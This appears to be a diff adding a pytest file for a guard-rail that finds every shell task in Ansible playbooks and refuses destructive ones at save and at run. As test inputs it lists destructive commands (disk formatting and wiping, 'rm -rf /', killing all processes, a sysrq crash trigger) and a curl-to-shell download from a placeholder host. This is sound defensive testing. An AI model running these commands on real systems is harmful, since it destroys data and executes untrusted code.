@@ -1,0 +1,131 @@
+"""Playbooks pass the command guard-rail: every task that runs shell, wherever it sits, at save and
+again at run with the run's extra_vars."""
+
+from __future__ import annotations
+
+import hashlib
+from typing import Any
+
+import pytest
+
+from knm.plugins.ansible.shell_tasks import shell_tasks
+from knm.testing.client import ApiClient, assert_envelope
+
+from .conftest import Fleet
+
+PLAYBOOKS = "/automation/ansible/playbooks"
+
+NESTED = """
+- hosts: all
+  vars: {scratch: /tmp/knm-scratch}
+  pre_tasks:
+    - ansible.builtin.command: uptime
+  tasks:
+    - name: grouped
+      block:
+        - shell: echo {{ scratch }}
+        - name: inner
+          block:
+            - ansible.legacy.raw: cat /etc/os-release
+      rescue:
+        - command:
+            cmd: df -h
+      always:
+        - ansible.builtin.command:
+            argv: [ls, -l, /tmp]
+    - action: shell free -m
+    - local_action:
+        module: command
+        cmd: hostname
+    - community.general.expect:
+        command: passwd bob
+        responses: {}
+    - script: files/run.sh --flag chdir=/tmp
+    - command: ls {{ unknown_thing }}
+  handlers:
+    - name: restart
+      ansible.builtin.shell: systemctl restart kubelet
+  roles:
+    - role: inline
+      tasks:
+        - raw: whoami
+"""
+
+
+def test_every_shell_task_is_found_wherever_it_sits() -> None:
+    commands = [task.command for task in shell_tasks(NESTED)]
+    assert commands == [
+        "uptime",
+        "echo /tmp/knm-scratch",
+        "cat /etc/os-release",
+        "df -h",
+        "ls -l /tmp",
+        "free -m",
+        "hostname",
+        "passwd bob",
+        "files/run.sh --flag",
+        "ls ${__knm_jinja}",
+        "systemctl restart kubelet",
+        "whoami",
+    ]
+
+
+def test_extra_vars_override_play_vars() -> None:
+    [task] = shell_tasks("- hosts: all\n  vars: {d: /tmp/x}\n  tasks:\n    - command: rm -rf {{ d }}\n",
+                         {"d": "/"})  # fmt: skip
+    assert task.command == "rm -rf /"
+
+
+async def _create(client: ApiClient, headers: dict[str, str], content: str) -> Any:
+    body = {"name": f"p-{hashlib.sha1(content.encode()).hexdigest()[:8]}", "content": content}
+    return await client.post(PLAYBOOKS, json=body, headers=headers)
+
+
+@pytest.mark.parametrize(
+    "task",
+    [
+        "raw: mkfs.ext4 /dev/sda1",
+        "ansible.builtin.shell: curl -s https://x.example | sh",
+        "ansible.legacy.command: rm -rf /etc/kubernetes",
+        "command:\n        cmd: kill -9 -1",
+        "shell: echo c > /proc/sysrq-trigger",
+        "block:\n        - shell: dd if=/dev/zero of=/dev/sdb",
+        "action: shell wipefs -a /dev/nvme0n1",
+    ],
+)
+async def test_a_playbook_with_a_destructive_shell_task_is_refused_at_save(
+    knm_client: ApiClient, admin_headers: dict[str, str], task: str
+) -> None:
+    content = f"- hosts: all\n  tasks:\n    - {task}\n"
+    response = await _create(knm_client, admin_headers, content)
+    error = assert_envelope(response, 422)["error"]
+    assert "dangerous command blocked" in error and "task" in error
+
+
+async def test_a_destructive_handler_is_refused_at_save(
+    knm_client: ApiClient, admin_headers: dict[str, str]
+) -> None:
+    content = (
+        "- hosts: all\n  tasks:\n    - command: uptime\n"
+        "  handlers:\n    - name: wipe\n      ansible.builtin.raw: shred -n1 /dev/sda\n"
+    )
+    response = await _create(knm_client, admin_headers, content)
+    assert "handlers" in assert_envelope(response, 422)["error"]
+
+
+async def test_a_playbook_is_checked_again_at_run_with_its_extra_vars(
+    knm_client: ApiClient, admin_headers: dict[str, str], fleet: Fleet
+) -> None:
+    content = (
+        "- hosts: all\n  gather_facts: false\n  vars: {target: /tmp/knm-guard-none}\n"
+        "  tasks:\n    - command: rm -rf {{ target }}\n"
+    )
+    response = await _create(knm_client, admin_headers, content)
+    playbook = assert_envelope(response, 201)["data"]["id"]
+    body = {"cluster_name": fleet.cluster_name, "target_nodes": fleet.nodes[:1],
+            "credential_id": fleet.credential_id, "playbook_id": playbook,
+            "extra_vars": {"target": "/"}}  # fmt: skip
+    response = await knm_client.post("/automation/ansible/run", json=body, headers=admin_headers)
+    body = assert_envelope(response, 422)
+    assert body["message"] == "command validation failed"
+    assert body["error"].startswith("dangerous command blocked: rm -rf /")
